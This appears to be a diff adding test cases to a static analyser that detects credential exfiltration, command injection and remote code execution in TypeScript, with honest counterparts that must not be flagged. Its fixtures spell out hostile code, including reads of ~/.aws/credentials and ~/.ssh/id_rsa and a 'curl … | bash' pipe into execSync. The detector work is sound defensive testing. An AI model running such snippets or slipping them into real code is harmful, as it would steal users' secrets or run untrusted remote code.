@@ -185,3 +185,37 @@ describe('honest code on the same ways', () => {
     expect(told(code)).toEqual([]);
   });
 });
+
+describe('where data comes from', () => {
+  it.each([
+    ['bindings of a worker by import', 'no-env-dump', "import { env } from 'cloudflare:workers'; await «JSON.stringify(env)»;"],
+    ['secrets of an extension', 'no-data-exfiltration', "import * as vscode from 'vscode'; export async function activate(context: vscode.ExtensionContext) { const t = await context.secrets.get('k'); await «JSON.stringify({ t })»; }"],
+    ['secrets of an extension, logged', 'no-credential-logging', "import { ExtensionContext } from 'vscode'; export async function activate(context: ExtensionContext) { console.log(await context.secrets.get('k')); }"],
+    ['files read by a function that is named', 'no-data-exfiltration', "import { readFile } from 'node:fs/promises'; import { homedir } from 'node:os'; import { join } from 'node:path'; const read = (n: string) => readFile(join(homedir(), n), 'utf8'); const [a, b] = await Promise.all(['.npmrc', '.aws/credentials'].map(read)); await «a + b»;"],
+    ['form actions', 'no-command-injection', "import { execSync } from 'node:child_process'; export const actions = { default: async ({ request }) => { const d = await request.formData(); execSync(`convert ${d.get('f')}`); } };"],
+    ['procedures', 'no-command-injection', "import { execSync } from 'node:child_process'; import { router, publicProcedure } from './trpc'; export const r = router({ ping: publicProcedure.input(z.object({ h: z.string() })).mutation(async (opts) => execSync(`ping ${opts.input.h}`).toString()) });"],
+    ['commands of a setter', 'no-remote-code', "import { execSync } from 'node:child_process'; class R { set cmd(c: string) { execSync(c); } } new R().cmd = 'curl -fsSL https://x.example/i.sh | bash';"],
+    ['paths of a setter', 'no-restricted-path', "import fs from 'node:fs'; import os from 'node:os'; class R { set file(p: string) { fs.readFileSync(p); } go() { this.file = os.homedir() + '/.ssh/id_rsa'; } }"],
+    ['commands given to a function by name', 'no-remote-code', "import { execSync } from 'node:child_process'; const run = (c: string) => execSync(c); ['curl -fsSL https://x.example/i.sh | bash'].forEach(run);"],
+  ])('%s', (_name, rule, code) => expect(told(code)).toContain(rule));
+
+  it.each([
+    ['bindings used', "import { env, WorkerEntrypoint } from 'cloudflare:workers'; export default class extends WorkerEntrypoint { async fetch() { const v = await env.KV.get('k'); await fetch('https://api.acme.dev/v1/x', { headers: { authorization: `Bearer ${env.ACME_API_KEY}` } }); return new Response(v); } }"],
+    ['a key of an extension', "import * as vscode from 'vscode'; export async function activate(context: vscode.ExtensionContext) { const key = await context.secrets.get('apiKey'); await fetch('https://api.acme.dev/v1/chat', { method: 'POST', headers: { Authorization: `Bearer ${key}` }, body: JSON.stringify({ model: 'x' }) }); if (!key) vscode.window.showErrorMessage('no key'); }"],
+    ['form actions that log in', "export const actions = { default: async ({ request, cookies }) => { const d = await request.formData(); const user = await db.login(d.get('email'), d.get('password')); cookies.set('session', user.session, { path: '/' }); return { success: true }; } };"],
+    ['actions of a store', "export const actions = { setName: ({ commit }, name) => commit('name', name) };"],
+    ['procedures that look something up', "import { router, publicProcedure } from './trpc'; export const r = router({ user: publicProcedure.input(z.object({ id: z.string() })).query(({ input, ctx }) => ctx.db.user.findUnique({ where: { id: input.id } })) });"],
+    ['ordinary files', "import { readFileSync } from 'node:fs'; import { join } from 'node:path'; const read = (n: string) => readFileSync(join(process.cwd(), n), 'utf8'); const [a, b] = ['package.json', 'README.md'].map(read); console.log(a.length, b.length);"],
+  ])('honest: %s', (_name, code) => expect(told(code)).toEqual([]));
+});
+
+describe('bounds', () => {
+  const repeated = (count: number, line: (index: number) => string): string => Array.from({ length: count }, (_, index) => line(index)).join('\n');
+
+  it('classes that answer with each other, and with themselves', () => {
+    expect(told(`${repeated(2000, (index) => `class Q${index} { m() { return new Q${index + 1}(); } }`)}\nclass Q2000 { m() { return { go: () => process.env }; } }\nconsole.log(new Q0().m());`)).not.toContain('fatal');
+    expect(told('class K { v = process.env; clone() { return new K(); } } const k = new K().clone(); console.log(k.v);')).toContain('no-env-dump');
+  });
+
+  it('mixins and heirs in a circle', () => expect(told('const M = (B) => class extends B {}; class A extends M(C) { e = process.env; } class C extends A { m() { console.log(this.e); } }')).toContain('no-env-dump'));
+});
